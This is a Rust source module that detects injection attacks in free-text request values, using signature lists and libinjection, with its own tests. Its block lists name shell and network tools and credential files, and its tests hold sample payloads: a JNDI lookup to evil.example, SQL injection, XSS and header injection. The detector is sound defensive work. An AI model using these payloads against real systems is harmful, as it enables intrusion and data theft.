//! Injection detection in free text: a second line of defence behind the grammars of the fields.
//!
//! SQL and script are found by libinjection, which tokenizes as a database and a browser do; the
//! other families by signatures that occur in no URL and no product name.

use std::panic::catch_unwind;

use memchr::memmem;

/// A family of injection attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Family {
    /// NUL and line ends: two readers may end the value at different places.
    Control,
    /// Shell commands.
    Command,
    /// Java class names, lookups and serialized objects.
    Java,
    /// LDAP filters.
    Ldap,
    /// JavaScript on a server.
    Node,
    /// PHP.
    Php,
    /// HTML and JavaScript in a browser.
    Script,
    /// SQL.
    Sql,
    /// Templates.
    Template,
    /// Path traversal, and files that attackers look for.
    Traversal,
}

/// Signatures of each family, in lower case. None may match a real product name (`curl/8.4`,
/// `{density=2.0}`, `(compatible; …; +http://…)`).
const SIGNATURES: [(Family, &[&str]); 8] = [
    (
        Family::Traversal,
        &[
            "../",
            "..\\",
            "/etc/passwd",
            "/etc/shadow",
            "/etc/master.passwd",
            "/proc/self",
            "boot.ini",
            "win.ini",
            "/.htaccess",
            "/.git/",
            "/.env",
            "file://",
        ],
    ),
    (
        Family::Command,
        &[
            "$(",
            "`",
            "() {",
            "(){",
            "/bin/sh",
            "/bin/bash",
            "/bin/cat",
            "/bin/ls",
            "/dev/tcp/",
            "cmd.exe",
            "cmd /c",
            "powershell.exe",
            "powershell -",
            "; cat ",
            ";cat ",
            "|cat ",
            "| cat ",
            "|id",
            ";wget ",
            "; wget ",
            ";curl ",
            "; curl ",
            "&& ",
            "|| ",
            "$ifs",
            "${ifs",
            "nc -e",
            "<(",
        ],
    ),
    (
        Family::Php,
        &[
            "<?",
            "php://",
            "phar://",
            "expect://",
            "zip://",
            "glob://",
            "data://",
            "$_get",
            "$_post",
            "$_request",
            "$_server",
            "$_cookie",
            "$globals",
            "eval(",
            "assert(",
            "system(",
            "passthru(",
            "shell_exec(",
            "popen(",
            "proc_open(",
            "base64_decode(",
            "phpinfo(",
            "call_user_func",
            "file_get_contents(",
            "create_function(",
        ],
    ),
    (
        Family::Node,
        &[
            "require(",
            "process.env",
            "process.main",
            "child_process",
            "__proto__",
            "constructor.prototype",
            "_$$nd_func$$_",
            "string.fromcharcode",
            "function(",
        ],
    ),
    (
        Family::Java,
        &[
            "${",
            "java.lang.",
            "java.io.",
            "java.util.",
            "javax.naming",
            "getruntime",
            "processbuilder",
            "ognl",
            "_memberaccess",
            "ro0ab",
            "class.classloader",
            "class.module.classloader",
        ],
    ),
    (Family::Template, &["{{", "}}", "<%", "#{", "*{", "[[${"]),
    (Family::Ldap, &["*)(", ")(|", ")(&", "(|(", "(&("]),
    (
        Family::Script,
        &[
            "<script",
            "javascript:",
            "vbscript:",
            "onerror=",
            "onload=",
            "<svg",
            "<iframe",
        ],
    ),
];

/// Maximum number of percent-decodings: servers decode once, faulty ones twice.
const MAX_DECODINGS: usize = 2;

/// The first family found in a value as sent, decoded once, or decoded twice.
pub(super) fn find(value: &[u8]) -> Option<Family> {
    let mut layer = value.to_ascii_lowercase();
    let mut found = find_in(&layer);
    for _ in 0..MAX_DECODINGS {
        if found.is_some() || memchr::memchr2(b'%', b'+', &layer).is_none() {
            break;
        }
        let spaced: Vec<u8> = layer
            .iter()
            .map(|byte| if *byte == b'+' { b' ' } else { *byte })
            .collect();
        layer = percent_decoded(&spaced)
            .unwrap_or(spaced)
            .to_ascii_lowercase();
        found = find_in(&layer);
    }
    found
}

fn find_in(value: &[u8]) -> Option<Family> {
    if value
        .iter()
        .any(|byte| byte.is_ascii_control() && *byte != b'\t')
    {
        return Some(Family::Control);
    }
    let occurs = |signature: &&str| memmem::find(value, signature.as_bytes()).is_some();
    let found = SIGNATURES
        .iter()
        .find(|(_, signatures)| signatures.iter().any(occurs));
    found
        .map(|(family, _)| *family)
        .or_else(|| find_by_libinjection(value))
}

/// The family that libinjection finds. The crate is a port from C: a panic counts as a finding, so
/// that a failure refuses the request.
fn find_by_libinjection(value: &[u8]) -> Option<Family> {
    let sql = || libinjectionrs::detect_sqli(value).is_injection();
    let script = || libinjectionrs::detect_xss(value).is_injection();
    if catch_unwind(sql).unwrap_or(true) {
        return Some(Family::Sql);
    }
    catch_unwind(script)
        .unwrap_or(true)
        .then_some(Family::Script)
}

/// Percent-decodes a value; `None` if the encoding is malformed.
pub(super) fn percent_decoded(value: &[u8]) -> Option<Vec<u8>> {
    let mut plain = Vec::with_capacity(value.len());
    let mut rest = value;
    while let Some((byte, after)) = rest.split_first() {
        rest = after;
        if *byte != b'%' {
            plain.push(*byte);
            continue;
        }
        let (digits, after) = rest.split_at_checked(2)?;
        let digits = std::str::from_utf8(digits).ok()?;
        // `from_str_radix` accepts a sign.
        if !digits.bytes().all(|digit| digit.is_ascii_hexdigit()) {
            return None;
        }
        plain.push(u8::from_str_radix(digits, 16).ok()?);
        rest = after;
    }
    Some(plain)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn each_family_is_found_plain_and_encoded_once_or_twice() {
        for (family, value) in [
            (Family::Control, "a\r\nset-cookie: b"),
            (Family::Control, "a\0b"),
            (Family::Traversal, "..\\..\\windows\\win.ini"),
            (Family::Command, "a; cat /etc/hosts"),
            (Family::Php, "<?php echo 1 ?>"),
            (Family::Node, "a.__proto__.b"),
            (Family::Java, "${jndi:ldap://evil.example/a}"),
            (Family::Template, "{{7*7}}"),
            (Family::Ldap, "*)(uid=*"),
            (Family::Script, "<img src=x onerror=alert(1)>"),
            (Family::Sql, "1' or '1'='1"),
            (Family::Sql, "-1 union select password from people"),
        ] {
            let encode = |text: &str| {
                let encoded = text
                    .bytes()
                    .map(|byte| [b'%', hex(byte >> 4), hex(byte & 15)]);
                String::from_utf8(encoded.flatten().collect()).unwrap()
            };
            let once = encode(value);
            for layer in [value, &once, &encode(&once)] {
                assert_eq!(find(layer.as_bytes()), Some(family), "{layer}");
            }
        }
    }

    fn hex(digit: u8) -> u8 {
        b"0123456789abcdef"[usize::from(digit)]
    }

    #[test]
    fn ordinary_values_are_not_code() {
        for value in [
            "",
            "O'Neil",
            "Mary-Anne d'Angelo",
            "select a date",
            "page=2&sort=family",
            "100%",
            "a + b",
            "{density=2.0,width=720}",
            "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ] {
            assert_eq!(find(value.as_bytes()), None, "{value}");
        }
    }

    proptest! {
        /// The search terminates for any input, and is case-insensitive.
        #[test]
        fn the_search_always_terminates(value in prop::collection::vec(any::<u8>(), 0..200)) {
            prop_assert_eq!(find(&value), find(&value.to_ascii_uppercase()));
            prop_assert!(percent_decoded(&value).is_none_or(|plain| plain.len() <= value.len()));
        }
    }
}
